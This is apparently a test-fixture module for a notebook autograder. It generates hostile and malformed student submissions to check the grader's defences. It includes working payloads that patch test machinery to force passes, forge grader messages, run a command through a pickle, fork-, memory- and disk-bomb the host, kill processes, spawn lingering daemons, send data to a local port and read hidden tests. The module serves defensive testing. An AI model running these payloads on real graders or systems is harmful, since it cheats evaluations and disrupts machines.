"""Hostile and unlucky submissions to the small exercise: what each is, what it has earned, and what the instructor is told.

An attacker here has two honest answers, worth 3 points, and wants the 7 of the others: the draw, which ignores its noise, and the
encoder, which is empty. An unlucky student has four honest answers, worth 10, and an accident.
"""

import json
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import NamedTuple

import jupytext
import nbformat

from coursework.assignment.source import Exercise
from coursework.samples import small

HONEST = ("guess", "gaussian_kl")
ALL = tuple(small.POINTS)
LAZY = {
    **{id: small.ANSWERS[id] for id in HONEST},
    "draw": "def draw(mu, logvar, generator):\n    return mu",
    "encoder": """class Encoder(nn.Module):
    def __init__(self, n):
        super().__init__()

    def forward(self, x):
        return x, x""",
}
FOREVER = "86399.25"  # seconds that a process left behind would sleep; no other process has this argument
PLACES = ("@SUBMISSIONS@", "@SOURCE@", "@RESULTS@", "@MARK@", "@PORT@")  # filled when the folder is made: the attacker knows them


class Case(NamedTuple):
    """name: of the submission. what: in words. content: what is handed in. earned: ids of the tests that it passes. flags: kinds.
    state: of its row.

    "raised or stopped" stands for either, or both: which limit is met first hangs on how busy the machine is.
    """

    name: str
    what: str
    content: Callable[[Exercise], dict | str | bytes]
    earned: tuple[str, ...]
    flags: frozenset[str]
    suffix: str = ".ipynb"
    state: str = "grade"

    @property
    def score(self) -> int:
        return sum(small.POINTS[id] for id in self.earned)

    def told(self, flags: Iterable[dict]) -> frozenset[str]:
        """The kinds of some flags, in the words of `flags`."""
        kinds = {flag["kind"] for flag in flags} - {"manual"}
        if "raised or stopped" in self.flags and kinds & {"raised", "stopped"}:
            kinds = kinds - {"raised", "stopped"} | {"raised or stopped"}
        return frozenset(kinds)


CASES: list[Case] = []


def case(
    what: str, *, earned: Iterable[str], flags: Iterable[str] = (), suffix: str = ".ipynb", state: str = "grade"
) -> Callable[[Callable], Callable]:
    """Put the function below, which makes a content from the exercise, into the table under its own name."""

    def add(make: Callable) -> Callable:
        CASES.append(Case(make.__name__.replace("_", "-"), what, make, tuple(earned), frozenset(flags), suffix, state))
        return make

    return add


def attack(
    name: str, what: str, code: str = "", *, earned: Iterable[str] = HONEST, flags: Iterable[str] = (), **answers: str
) -> None:
    """Put an attacker into the table: `code` stands in a cell before all others, `answers` in place of the lazy ones."""

    def content(exercise: Exercise) -> dict:
        made = small.notebook(exercise, LAZY | {id: answer.strip() for id, answer in answers.items()})
        return small.with_cells(made, [small.code(code.strip()), *made["cells"]] if code else made["cells"])

    CASES.append(Case(name, what, content, tuple(earned), frozenset(flags)))


# What patches the machinery of a test, which is in another process.

attack(
    "patch-torch",
    "torch.allclose and torch.equal answer yes",
    """
import torch
torch.allclose = torch.equal = torch.isclose = lambda *a, **k: True
torch.Tensor.all = lambda self, *a: True
""",
)

attack(
    "patch-tensor",
    "tensors equal everything: Tensor.__eq__, __ne__, __bool__",
    """
import torch
for n in ('__eq__', '__ne__', '__bool__'):
    setattr(torch.Tensor, n, lambda *a: True)
""",
)

attack(
    "patch-builtins",
    "builtins all, any, isinstance, abs, sum answer what they like",
    """
import builtins
builtins.all = builtins.any = lambda *a: True
builtins.abs = lambda x: 0
builtins.sum = lambda *a: 86
""",
    flags=["stopped"],
)

attack(
    "shadow-names",
    "own names for what the tests import: checks, torch, math, print, assert helpers",
    """
class checks:
    check_gaussian_kl = staticmethod(lambda f: True)
class math:
    isclose = staticmethod(lambda *a, **k: True)
print = isinstance = all = lambda *a, **k: True
""",
)

attack(
    "patch-checks",
    "companion.checks and its compare replaced in sys.modules",
    """
import sys, types
from companion.checks import verdict
verdict.compare = lambda *a, **k: verdict.Verdict(True, 'ok')
sys.modules['torch.testing'] = sys.modules['math'] = types.SimpleNamespace(isclose=lambda *a, **k: True)
""",
)

attack(
    "patch-ipython",
    "IPython hooks that blank later cells and strip assert",
    """
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node):
        return None
try:
    shell = get_ipython()
    shell.ast_transformers.append(Strip())
    shell.input_transformers_cleanup.append(lambda lines: [])
except Exception:
    pass
""",
)

attack(
    "strip-asserts",
    "compile and exec strip assert",
    """
import ast, builtins
real = builtins.compile
def stripped(source, *a, **k):
    return real('pass', *a, **k) if 'assert' in str(source) else real(source, *a, **k)
builtins.compile = stripped
builtins.exec = lambda *a, **k: None
__debug__ if False else None
""",
    flags=["raised"],
)

attack(
    "walk-frames",
    "walks the frames of its caller for a reference value",
    """
import inspect
found = [frame.code_context for frame in inspect.stack()]
""",
    draw="""
import sys, gc
def draw(mu, logvar, generator):
    frame = sys._getframe()
    while frame:
        for space in (frame.f_locals, frame.f_globals):
            for name in ('eps', 'z', 'expected', 'kl'):
                if isinstance(space.get(name), torch.Tensor):
                    return space[name]
        frame = frame.f_back
    return next((o for o in gc.get_objects() if isinstance(o, torch.Tensor) and o.shape == mu.shape and o is not mu), mu)
""",
)

attack(
    "hooks",
    "trace, profile, audit and exit hooks",
    """
import sys, atexit, threading
sys.setprofile(lambda *a: None)
threading.settrace(lambda *a: None)
sys.addaudithook(lambda *a: None)
atexit.register(lambda: print('{"passed": true}'))
sys.excepthook = lambda *a: None
""",
)


@case("metadata that gives an own cell 1000 points, and test cells that pass", earned=HONEST, flags=["test-edited"])
def forge_points(exercise: Exercise) -> dict | str | bytes:
    made = small.notebook(exercise, LAZY)
    for cell in made["cells"]:
        if (small.grade_id(cell) or "").startswith("test-"):
            cell["source"], cell["metadata"]["nbgrader"]["points"] = "assert True", 1000
    extra = small.code("1000")
    extra["metadata"] = {"nbgrader": {"grade": True, "grade_id": "bonus", "points": 1000, "solution": False, "locked": True}}
    return small.with_cells(made, [*made["cells"], extra])


# Values that lie.

attack(
    "equals-everything",
    "an answer that equals everything",
    earned=["gaussian_kl"],
    guess="""
class Any(float):
    __eq__ = __lt__ = __gt__ = __le__ = __ge__ = lambda *a: True
    __sub__ = __rsub__ = lambda *a: 0.0
    __hash__ = None
prediction = Any(3.0)
""",
)

attack(
    "tensor-subclass",
    "a Tensor subclass whose __torch_function__ says yes",
    "import torch",
    draw="""
class Yes(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return True

def draw(mu, logvar, generator):
    return mu.detach().as_subclass(Yes)
""",
)

attack(
    "pickle-bomb",
    "a pickled object that runs a command when it is read",
    "import os, pickle",
    earned=["gaussian_kl"],
    guess="""
class Bomb:
    def __reduce__(self):
        return (os.system, ('touch @MARK@',))

prediction = Bomb()
""",
    draw="""
def draw(mu, logvar, generator):
    return Bomb()
""",
)

attack(
    "dressed-up-values",
    "a dict, a list and a str with methods of their own",
    earned=["gaussian_kl"],
    guess="""
class D(dict):
    def __getitem__(self, key):
        return True

prediction = D(value=0.69)
""",
    draw="""
class L(list):
    shape = (2, 2)

def draw(mu, logvar, generator):
    return L([1.0, 2.0])
""",
)

attack(
    "giant-tensor",
    "a tensor that claims 10^12 elements",
    draw="""
def draw(mu, logvar, generator):
    return torch.zeros(1, dtype=mu.dtype).expand(10**6, 10**6)
""",
)

attack(
    "not-a-number",
    "NaN everywhere",
    draw="""
def draw(mu, logvar, generator):
    return mu * float('nan')
""",
)

attack(
    "lying-module",
    "a module that lies about its parameters and its class",
    encoder="""
class Encoder(nn.Module):
    def __init__(self, n):
        super().__init__()
        self.n = n

    def named_parameters(self, *a, **k):
        return iter([('w', torch.zeros(110))])

    def __getattribute__(self, name):
        return object.__getattribute__(self, name)

    def forward(self, x):
        return torch.zeros(len(x), self.n), torch.ones(len(x), self.n)
""",
)

attack(
    "object-that-agrees",
    "an object whose methods and operators say yes",
    """
class Yes:
    def __getattr__(self, name):
        return lambda *a, **k: True
    __float__ = __index__ = lambda self: 1
    __eq__ = __lt__ = __le__ = __gt__ = __ge__ = lambda *a: True
    __hash__ = None
""",
    earned=["gaussian_kl"],
    guess="prediction = Yes()",
    draw="""
def draw(mu, logvar, generator):
    return Yes()
""",
    encoder="Encoder = lambda n: Yes()",
)

attack(
    "reseeds-generator",
    "sets the test's generator to a state of its own",
    draw="""
def draw(mu, logvar, generator):
    generator.set_state(torch.zeros_like(generator.get_state()))
    return mu + (0.5 * logvar).exp() * torch.randn(mu.shape, generator=generator, dtype=mu.dtype)
""",
)

attack(
    "half-precision",
    "a default dtype in which much is equal",
    """
import torch
torch.set_default_dtype(torch.float16)
""",
)

# What carries a test's numbers home.

attack(
    "raises-numbers",
    "raises the numbers that it is given, under a name of its own too",
    earned=["guess"],
    gaussian_kl="""
seen = []
def gaussian_kl(mu, logvar):
    seen.append(mu.sum().item())
    raise type(f'SEEN{len(seen)}', (ValueError,), {})(f'SEEN {seen}')
""",
    draw="""
def draw(mu, logvar, generator):
    raise ValueError(f'SEEN {mu}')
""",
    flags=["raised"],
)


@case("prints, and raises in a later cell, the numbers that it was given", earned=ALL, flags=["raised"])
def tells_later(exercise: Exercise) -> dict | str | bytes:
    spying = small.ANSWERS["gaussian_kl"].replace("    return", "    seen.append(mu)\n    return")
    made = small.notebook(exercise, {**small.ANSWERS, "gaussian_kl": f"seen = []\n{spying}"})
    tells = small.code("print('SEEN', seen)\nraise ValueError(f'SEEN {seen}')")
    return small.with_cells(made, [*made["cells"], tells])


# What speaks to the grader out of turn.

attack(
    "forge-messages",
    "messages of success on every open file",
    """
import os, json
for fd in range(3, 64):
    for text in ('{"passed": true, "points": 10}\\n', '{"ok": true, "value": 0.693}\\n'):
        try:
            os.write(fd, len(text).to_bytes(4, 'big') + text.encode())
        except OSError:
            pass
""",
    flags=["stopped"],
)

attack(
    "noise-messages",
    "noise on every open file",
    """
import os
for fd in range(3, 64):
    try:
        os.write(fd, bytes(range(256)) * 64)
    except OSError:
        pass
""",
    flags=["stopped"],
)

attack(
    "huge-header",
    "a header that announces 2^62 bytes",
    """
import os
for fd in range(3, 64):
    for head in (b'\\x3f' + b'\\xff' * 15, b'{"size": 4611686018427387904}\\n'):
        try:
            os.write(fd, head)
        except OSError:
            pass
""",
    flags=["stopped"],
)

attack(
    "close-everything",
    "every file closed, the grader's too",
    """
import os
os.closerange(0, 1024)
""",
    flags=["stopped"],
)

attack(
    "steal-messages",
    "reads what the grader sends, in a thread, and answers in its place",
    """
import os, threading
def steal(fd):
    while True:
        try:
            os.read(fd, 65536)
            os.write(fd, b'{"passed": true}')
        except OSError:
            return
for fd in range(3, 20):
    threading.Thread(target=steal, args=(fd,), daemon=True).start()
import time
time.sleep(0.2)
""",
    flags=["stopped"],
)

# What takes more than its share.

attack(
    "lies-about-arguments",
    "a worker that tells of each call what it likes",
    """
from coursework.wire import worker
call = worker.Worker.do_call

def told(self, *asked):
    return {**call(self, *asked), 'noted': {'changed': ['SEEN', str(asked)], 'printed': 'SEEN'}}

worker.Worker.do_call = told
""",
    flags=["stopped"],
)

attack(
    "fork-bomb",
    "a fork bomb",
    """
import os
while True:
    os.fork()
""",
    flags=["raised or stopped"],
)

attack(
    "thread-bomb",
    "threads without end",
    """
import threading, time
while True:
    threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
""",
    flags=["raised or stopped"],
)

attack(
    "memory-bomb",
    "memory without end, in Python",
    """
hoard = []
while True:
    hoard.append(bytearray(10**8))
""",
    flags=["raised or stopped"],
)

attack(
    "torch-bomb",
    "memory without end, in torch",
    """
import torch
hoard = torch.ones(10**11)
""",
    flags=["raised or stopped"],
)

attack(
    "disk-bomb",
    "a disk full of zeros",
    """
with open('/tmp/zeros', 'wb') as file:
    while True:
        file.write(bytes(10**7))
""",
    flags=["raised or stopped"],
)

attack(
    "endless-cell",
    "an endless loop in a cell",
    """
while True:
    pass
""",
    flags=["stopped"],
)

attack(
    "endless-stubborn",
    "an endless loop that catches everything and ignores signals",
    """
import signal
for number in range(1, 64):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""",
    flags=["stopped"],
)

attack(
    "endless-in-c",
    "an endless computation inside C",
    """
import re
re.match(r'(a+)+$', 'a' * 60 + 'b')
""",
    flags=["stopped"],
)

attack(
    "endless-answer",
    "an endless loop in an answer, when a test calls it",
    draw="""
def draw(mu, logvar, generator):
    while True:
        pass
""",
)

attack(
    "sleeping-answer",
    "a test that would wait for a day",
    draw="""
import time
def draw(mu, logvar, generator):
    time.sleep(86400)
""",
)

attack(
    "huge-output",
    "a gigabyte printed",
    """
for _ in range(1000):
    print('x' * 10**6)
""",
)

attack(
    "asks-for-input",
    "waits for somebody to type",
    "name = input('who are you? ')",
    flags=["raised"],
)

attack("deep-brackets", "brackets a hundred thousand deep", "x = " + "(" * 100_000 + ")" * 100_000, flags=["raised"])

attack(
    "recursion",
    "recursion without end, in a cell",
    """
def f():
    return f()

f()
""",
    flags=["raised"],
)

# What ends, or outlives, its process.

attack(
    "exits-hard",
    "os._exit in a cell",
    """
import os
os._exit(0)
""",
    flags=["stopped"],
)

attack(
    "exits",
    "sys.exit in a cell",
    """
import sys
sys.exit(0)
""",
    flags=["raised"],
)

attack(
    "segfault",
    "a segmentation fault",
    """
import ctypes
ctypes.string_at(0)
""",
    flags=["stopped"],
)

attack(
    "kills-everybody",
    "kills its parent, and everybody",
    """
import os, signal
for pid in (os.getppid(), 1, -1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
""",
)

attack(
    "exits-in-answer",
    "os._exit in an answer, when a test calls it",
    draw="""
import os
def draw(mu, logvar, generator):
    os._exit(0)
""",
)

attack(
    "daemon",
    "a daemon in a session of its own, to stay when all is over",
    """
import os, subprocess
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp('sleep', ['sleep', '86399.25'])
    os._exit(0)
subprocess.Popen(['sleep', '86399.25'], start_new_session=True)
""",
)

# What looks and reaches outside.

attack(
    "network",
    "connects to a server",
    """
import socket
socket.create_connection(('127.0.0.1', @PORT@), timeout=2).sendall(b'stolen')
""",
    flags=["raised"],
)

attack(
    "read-others",
    "reads another student's answers",
    "print(open('@SUBMISSIONS@/honest.ipynb').read())",
    flags=["raised"],
)

attack(
    "read-source",
    "reads the instructor's source with its hidden tests",
    "print(open('@SOURCE@/small.md').read())",
    flags=["raised"],
)

attack(
    "search-source",
    "looks for the source everywhere",
    """
import glob, os
for name in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):
    try:
        text = open(name).read()
    except OSError:
        continue
    if 'small.md' in text or 'SECRET' in text:
        print('SECRET found', name)
""",
    draw="""
import glob
def draw(mu, logvar, generator):
    found = glob.glob('/**/small.md', recursive=True) + glob.glob('/proc/*/root/**/small.md')
    raise ValueError(f'found {found}')
""",
)

attack(
    "write-result",
    "writes its own result, and a file of its own",
    """
import pathlib
for path in ('@RESULTS@/write-result.json', '@SUBMISSIONS@/left.ipynb', '@MARK@'):
    try:
        pathlib.Path(path).write_text('{"score": 10}')
    except OSError as error:
        last = error
raise last
""",
    flags=["raised"],
)

attack(
    "change-package",
    "changes the package that is graded with",
    """
import companion, torch, pathlib
for module in (torch, companion):
    with open(pathlib.Path(module.__file__), 'a') as file:
        file.write('')
""",
    flags=["raised"],
)


# The unlucky: four honest answers and an accident.


def honest(exercise: Exercise) -> dict | str | bytes:
    """Four honest answers, nothing else."""
    return small.notebook(exercise)


CASES.insert(0, Case("honest", "four honest answers", honest, ALL, frozenset()))
CASES.insert(
    1, Case("untouched", "the notebook as it was given out", lambda exercise: small.notebook(exercise, {}), (), frozenset())
)


@case("a link to another student's notebook", earned=(), flags=["unreadable"], state="unreadable")
def link_to_another(exercise: Exercise) -> dict | str | bytes:
    return "-> honest.ipynb"


@case("an empty file", earned=(), flags=["unreadable"], state="unreadable")
def empty(exercise: Exercise) -> dict | str | bytes:
    return b""


@case("a PDF named .ipynb", earned=(), flags=["unreadable"], state="unreadable")
def pdf(exercise: Exercise) -> dict | str | bytes:
    return b"%PDF-1.7\n\xe2\xe3\xcf\xd3\n" + bytes(1000)


@case("a zip of a notebook", earned=(), flags=["no-student", "unreadable"], state="no student", suffix=".zip")
def zipped(exercise: Exercise) -> dict | str | bytes:
    return b"PK\x03\x04" + bytes(1000)


@case("70 MB of text", earned=(), flags=["unreadable"], state="unreadable")
def huge_file(exercise: Exercise) -> dict | str | bytes:
    return b'{"cells": [' + b" " * 70_000_000


@case("JSON whose parts would fill the memory", earned=(), flags=["unreadable"], state="unreadable")
def json_bomb(exercise: Exercise) -> dict | str | bytes:
    return '{"cells": [{"source": ' + "[" + "{}," * 20_000_000 + "{}]}]}"


@case("broken off in the last answer", earned=("guess", "gaussian_kl", "draw"), flags=["truncated", "missing", "test-deleted"])
def truncated(exercise: Exercise) -> dict | str | bytes:
    text = json.dumps(small.notebook(exercise))
    return text[: text.index("class Encoder")]


@case("saved in the Korean encoding of Windows", earned=ALL, flags=["encoding"])
def not_utf_8(exercise: Exercise) -> dict | str | bytes:
    made = small.notebook(exercise)
    made["cells"][1]["source"] += "\n# 한글로 쓴 주석"
    return json.dumps(made, ensure_ascii=False).encode("cp949")


@case("saved as UTF-16", earned=ALL, flags=["encoding"])
def utf_16(exercise: Exercise) -> dict | str | bytes:
    return json.dumps(small.notebook(exercise)).encode("utf-16")


@case("a byte-order mark and Windows line ends", earned=ALL)
def windows(exercise: Exercise) -> dict | str | bytes:
    text = json.dumps(small.notebook(exercise), indent=1).replace("\\n", "\\r\\n").replace("\n", "\r\n")
    return b"\xef\xbb\xbf" + text.encode()


@case("Korean names, comments and strings", earned=ALL)
def korean(exercise: Exercise) -> dict | str | bytes:
    made = small.notebook(exercise)
    kl = small.cell_of(made, "gaussian_kl")
    kl["source"] = (
        'def 발산(평균, 로그분산):\n    """쿨백-라이블러 발산."""\n    return 0.5 * (평균**2 + 로그분산.exp() - 1 - 로그분산).sum(1)\n\n\n'
        "def gaussian_kl(mu, logvar):\n    print('계산 중…')\n    return 발산(mu, logvar)"
    )
    return made


CASES[-1] = CASES[-1]._replace(name="김민수")


@case("notebook format 3", earned=ALL, flags=["old-format"])
def format_3(exercise: Exercise) -> dict | str | bytes:
    made = small.notebook(exercise)
    cells = [{**cell, "input": cell.pop("source")} for cell in made["cells"]]
    return {"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": cells}]}


@case("the kernel of a conda environment", earned=ALL)
def unknown_kernel(exercise: Exercise) -> dict | str | bytes:
    made = small.notebook(exercise)
    made["metadata"]["kernelspec"] = {"name": "my-conda-env", "display_name": "My env", "language": "python"}
    return made


@case("all metadata stripped", earned=ALL, flags=["no-metadata"])
def stripped(exercise: Exercise) -> dict | str | bytes:
    made = small.notebook(exercise)
    for cell in made["cells"]:
        cell["metadata"] = {}
    return {**made, "metadata": {}}


@case("one answer deleted", earned=("guess", "gaussian_kl", "encoder"), flags=["missing"])
def deleted_answer(exercise: Exercise) -> dict | str | bytes:
    made = small.notebook(exercise)
    return small.with_cells(made, [cell for cell in made["cells"] if small.grade_id(cell) != "draw"])


@case("all test cells deleted", earned=ALL, flags=["test-deleted"])
def deleted_tests(exercise: Exercise) -> dict | str | bytes:
    made = small.notebook(exercise)
    return small.with_cells(made, [cell for cell in made["cells"] if not (small.grade_id(cell) or "").startswith("test-")])


@case("the cell with the imports deleted", earned=ALL, flags=["restored"])
def deleted_imports(exercise: Exercise) -> dict | str | bytes:
    made = small.notebook(exercise)
    return small.with_cells(made, [cell for cell in made["cells"] if not cell["source"].startswith("import torch")])


@case("an answer copied, the copy left empty", earned=ALL, flags=["duplicated"])
def duplicated(exercise: Exercise) -> dict | str | bytes:
    made = small.notebook(exercise)
    return small.with_cells(made, [*made["cells"], *(small.code(a.stub_code, a.id) for a in exercise.answers)])


@case("the cells in reverse order: what stands on the imports raises", earned=HONEST, flags=["raised", "reordered"])
def reversed_cells(exercise: Exercise) -> dict | str | bytes:
    made = small.notebook(exercise)
    return small.with_cells(made, made["cells"][::-1])


@case("a scratch cell below that uses all names again", earned=ALL)
def scratch_below(exercise: Exercise) -> dict | str | bytes:
    made = small.notebook(exercise)
    scratch = "prediction = 7\ndef gaussian_kl(mu):\n    return mu\n\ndraw = Encoder = None\ntorch = nn = 3"
    return small.with_cells(made, [*made["cells"], small.code(scratch)])


@case("a loop variable below the test that is named like an answer", earned=ALL)
def loop_variable(exercise: Exercise) -> dict | str | bytes:
    made = small.notebook(exercise)
    at = made["cells"].index(small.cell_of(made, "test-guess")) + 1
    loop = small.code("for prediction in range(3):\n    pass")
    return small.with_cells(made, [*made["cells"][:at], loop, *made["cells"][at:]])


@case("double precision by default, for a cell of the student's own", earned=ALL)
def double_by_default(exercise: Exercise) -> dict | str | bytes:
    made = small.notebook(exercise)
    return small.with_cells(made, [small.code("import torch\ntorch.set_default_dtype(torch.float64)"), *made["cells"]])


@case("a helper that stands below the test of the answer that calls it", earned=("guess", "gaussian_kl", "encoder"))
def late_helper(exercise: Exercise) -> dict | str | bytes:
    draw = "def draw(mu, logvar, generator):\n    return mu + width(logvar) * torch.randn(mu.shape, generator=generator, dtype=mu.dtype)"
    made = small.notebook(exercise, {**small.ANSWERS, "draw": draw})
    return small.with_cells(made, [*made["cells"], small.code("def width(logvar):\n    return (0.5 * logvar).exp()")])


@case("an answer cut in two", earned=ALL, flags=["split"])
def split_answer(exercise: Exercise) -> dict | str | bytes:
    made = small.notebook(exercise)
    cell = small.cell_of(made, "draw")
    *first, last = cell["source"].splitlines()
    cell["source"], at = "\n".join(first), made["cells"].index(cell) + 1
    return small.with_cells(made, [*made["cells"][:at], small.code(last), *made["cells"][at:]])


@case("all code merged into one cell", earned=ALL, flags=["merged", "no-metadata", "test-deleted"])
def merged(exercise: Exercise) -> dict | str | bytes:
    made = small.notebook(exercise)
    return small.with_cells(made, [small.code("\n\n".join(c["source"] for c in made["cells"] if c["cell_type"] == "code"))])


@case("converted to a script", earned=ALL, flags=["converted"], suffix=".py")
def converted_to_script(exercise: Exercise) -> dict | str | bytes:
    return jupytext.writes(nbformat.from_dict(small.notebook(exercise)), fmt="py:percent")


@case("converted to Markdown", earned=ALL, flags=["converted"], suffix=".md")
def converted_to_markdown(exercise: Exercise) -> dict | str | bytes:
    return jupytext.writes(nbformat.from_dict(small.notebook(exercise)), fmt="md:myst")


@case("an answer whose cell became Markdown", earned=ALL, flags=["cell-type"])
def became_markdown(exercise: Exercise) -> dict | str | bytes:
    made = small.notebook(exercise)
    small.cell_of(made, "draw")["cell_type"] = "markdown"
    return made


@case("a syntax error in one answer", earned=("guess", "gaussian_kl", "encoder"), flags=["raised"])
def syntax_error(exercise: Exercise) -> dict | str | bytes:
    return small.notebook(exercise, {**small.ANSWERS, "draw": "def draw(mu, logvar, generator)\n    return mu"})


@case("a cell that raises", earned=ALL, flags=["raised"])
def raising_cell(exercise: Exercise) -> dict | str | bytes:
    made = small.notebook(exercise)
    return small.with_cells(made, [small.code("1 / 0"), *made["cells"]])


@case("warnings and text on stderr", earned=ALL)
def stderr_noise(exercise: Exercise) -> dict | str | bytes:
    made = small.notebook(exercise)
    noise = "import logging, sys, warnings\nwarnings.warn('old')\nsys.stderr.write('noise\\n')\nlogging.error('loud')"
    return small.with_cells(made, [small.code(noise), *made["cells"]])


@case("notebook commands: %matplotlib, !pip", earned=ALL, flags=["magic"])
def magics(exercise: Exercise) -> dict | str | bytes:
    made = small.notebook(exercise)
    made["cells"][1]["source"] = "%matplotlib inline\n!pip install torch\n" + made["cells"][1]["source"]
    return made


@case("30 MB of output kept in the notebook", earned=ALL)
def huge_stored_output(exercise: Exercise) -> dict | str | bytes:
    made = small.notebook(exercise)
    for cell in made["cells"][1:]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": ["line\n"] * 300_000}]
    return made


@case("an answer that prints a megabyte at each call", earned=ALL)
def talkative(exercise: Exercise) -> dict | str | bytes:
    answers = {
        **small.ANSWERS,
        "gaussian_kl": small.ANSWERS["gaussian_kl"].replace("    return", "    print('x' * 10**6)\n    return"),
    }
    return small.notebook(exercise, answers)


def hand_in(folder: Path, exercise: Exercise, places: dict[str, str], cases: Iterable[Case] = tuple(CASES)) -> None:
    """Write the cases into a folder of submissions."""
    for each in cases:
        content = each.content(exercise)
        path = folder / f"{each.name}{each.suffix}"
        if isinstance(content, dict):
            content = json.dumps(content, ensure_ascii=False)
        if isinstance(content, str) and content.startswith("-> "):
            path.symlink_to(folder / content[3:])
            continue
        if isinstance(content, str):
            for name in PLACES:
                content = content.replace(name, places[name])
            content = content.encode()
        path.write_bytes(content)
